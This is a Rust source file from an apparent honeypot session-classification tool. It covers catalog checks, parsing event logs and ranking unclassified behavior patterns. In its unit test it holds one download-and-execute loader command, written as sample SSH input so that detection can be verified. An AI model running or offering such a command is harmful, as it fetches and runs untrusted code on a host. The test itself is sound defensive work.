//! What the `sikker catalog …` subcommands compute, as values and printable text; the binary
//! only reads files and prints.
//!
//! `SESSIONS.jsonl` (for `catalog test`): one `sikker_event::Event` per line in its wire form;
//! events are grouped by their `session` field, sessions reported in order of first appearance.
//! Blank lines and lines starting with `#` are ignored.

use crate::catalog::{Catalog, Diagnostic, Level};
use crate::engine::{Engine, Outcome, SessionClassification};
use serde::Serialize;
use sikker_event::Event;
use std::collections::HashMap;
use std::fmt::Write;

/// `sikker catalog check DIR`: diagnostics for the files and a one-line verdict.
pub fn check_report(files: &[(String, String)]) -> (bool, String) {
    let diags = Catalog::check(files);
    let errors = diags.iter().filter(|d| d.level == Level::Error).count();
    let mut out = String::new();
    for d in &diags {
        let _ = writeln!(out, "{d}");
    }
    if errors == 0 {
        if let Ok(c) = Catalog::parse(files) {
            let _ = writeln!(
                out,
                "ok: {} behaviors, {} primitives, {} groups, {} techniques, {} warnings",
                c.behaviors.len(),
                c.primitives.len(),
                c.groups.len(),
                c.techniques.len(),
                diags.len()
            );
        }
    } else {
        let _ = writeln!(out, "{errors} errors");
    }
    (errors == 0, out)
}

/// Parses `SESSIONS.jsonl`; errors are `NAME:LINE: reason`.
pub fn parse_sessions_jsonl(name: &str, text: &str) -> Result<Vec<Event>, Vec<Diagnostic>> {
    let mut events = Vec::new();
    let mut errors = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        match serde_json::from_str::<Event>(line) {
            Ok(e) => events.push(e),
            Err(e) => errors.push(Diagnostic {
                file: name.to_owned(),
                line: i + 1,
                level: Level::Error,
                message: format!("not an event: {e}"),
            }),
        }
    }
    if errors.is_empty() {
        Ok(events)
    } else {
        Err(errors)
    }
}

/// `sikker catalog test SESSIONS.jsonl`: each session's primitives and behavior.
pub fn test_sessions(
    engine: &Engine,
    name: &str,
    text: &str,
) -> Result<Vec<SessionClassification>, Vec<Diagnostic>> {
    let events = parse_sessions_jsonl(name, text)?;
    Ok(engine.classify_events(&events))
}

/// Human-readable form of [`test_sessions`]: one block per session.
pub fn render_sessions(engine: &Engine, sessions: &[SessionClassification]) -> String {
    let mut out = String::new();
    for s in sessions {
        let c = &s.classification;
        let what = match &c.outcome {
            Outcome::Behavior(b) => match engine.behavior(b) {
                Some(b) => format!("{} ({}, {})", b.id, b.name, b.severity),
                None => b.to_string(),
            },
            other => other.to_string(),
        };
        let _ = writeln!(
            out,
            "{} {} {} ({} events): {}",
            s.session, s.src_ip, s.protocol, s.events, what
        );
        let primitives: Vec<&str> = c.primitives.iter().collect();
        let _ = writeln!(out, "  primitives: {}", primitives.join(", "));
    }
    out
}

/// One line of the editors' queue.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct QueueEntry {
    /// The primitive set, sorted.
    pub primitives: Vec<String>,
    /// How many sessions showed exactly this set.
    pub sessions: usize,
}

/// `sikker catalog unclassified`: of the given primitive sets, each with how many sessions
/// showed it, those no behavior of `engine` takes (re-resolved now, so a catalog fix empties
/// the queue), most frequent first (ties by the set itself), at most `limit`. A set may come
/// more than once, in any order; its counts add up.
pub fn unclassified_queue<I, S>(engine: &Engine, sets: I, limit: usize) -> Vec<QueueEntry>
where
    I: IntoIterator<Item = (Vec<S>, usize)>,
    S: AsRef<str>,
{
    let mut counts: HashMap<Vec<String>, usize> = HashMap::new();
    for (set, sessions) in sets {
        if set.is_empty() || sessions == 0 {
            continue;
        }
        let mut ids: Vec<String> = set.iter().map(|s| s.as_ref().to_owned()).collect();
        ids.sort();
        ids.dedup();
        *counts.entry(ids).or_default() += sessions;
    }
    let mut queue: Vec<QueueEntry> = counts
        .into_iter()
        .filter(|(ids, _)| engine.resolve(ids) == Outcome::Unclassified)
        .map(|(primitives, sessions)| QueueEntry {
            primitives,
            sessions,
        })
        .collect();
    queue.sort_by(|a, b| {
        b.sessions
            .cmp(&a.sessions)
            .then_with(|| a.primitives.cmp(&b.primitives))
    });
    queue.truncate(limit);
    queue
}

pub fn render_queue(queue: &[QueueEntry]) -> String {
    let mut out = String::new();
    for q in queue {
        let _ = writeln!(out, "{:>8}  {}", q.sessions, q.primitives.join(" "));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use sikker_event::{Event, EventData, Protocol};

    #[test]
    fn the_queue_adds_counts_drops_classified_sets_and_ranks() {
        let engine = Engine::builtin();
        let ip = "203.0.113.9".parse().expect("literal");
        let session = uuid::Uuid::now_v7();
        let events: Vec<Event> = [
            EventData::Connect,
            EventData::Command {
                line: "cd /tmp; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh".into(),
            },
        ]
        .into_iter()
        .map(|d| Event::new("t", session, Protocol::Ssh, ip, 40000, 22, d))
        .collect();
        let classified = engine.classify_uncached(&events);
        assert!(
            classified.outcome.behavior().is_some(),
            "a loader classifies"
        );
        let queue = unclassified_queue(
            &engine,
            vec![
                (vec!["zz-unknown-b"], 3),
                (vec!["zz-unknown-a"], 2),
                (vec!["zz-unknown-b", "zz-unknown-b"], 4), // the same set, counted again
                (vec!["zz-unknown-c"], 7),
                (vec![], 100),
                (vec!["zz-unknown-d"], 0),
            ]
            .into_iter()
            .map(|(set, n)| (set.into_iter().map(str::to_owned).collect::<Vec<_>>(), n))
            .chain([(
                classified
                    .primitives
                    .iter()
                    .map(|p| p.to_string())
                    .collect(),
                50,
            )]),
            2,
        );
        assert_eq!(
            queue,
            vec![
                QueueEntry {
                    primitives: vec!["zz-unknown-b".into()],
                    sessions: 7
                },
                QueueEntry {
                    primitives: vec!["zz-unknown-c".into()],
                    sessions: 7
                },
            ]
        );
    }
}
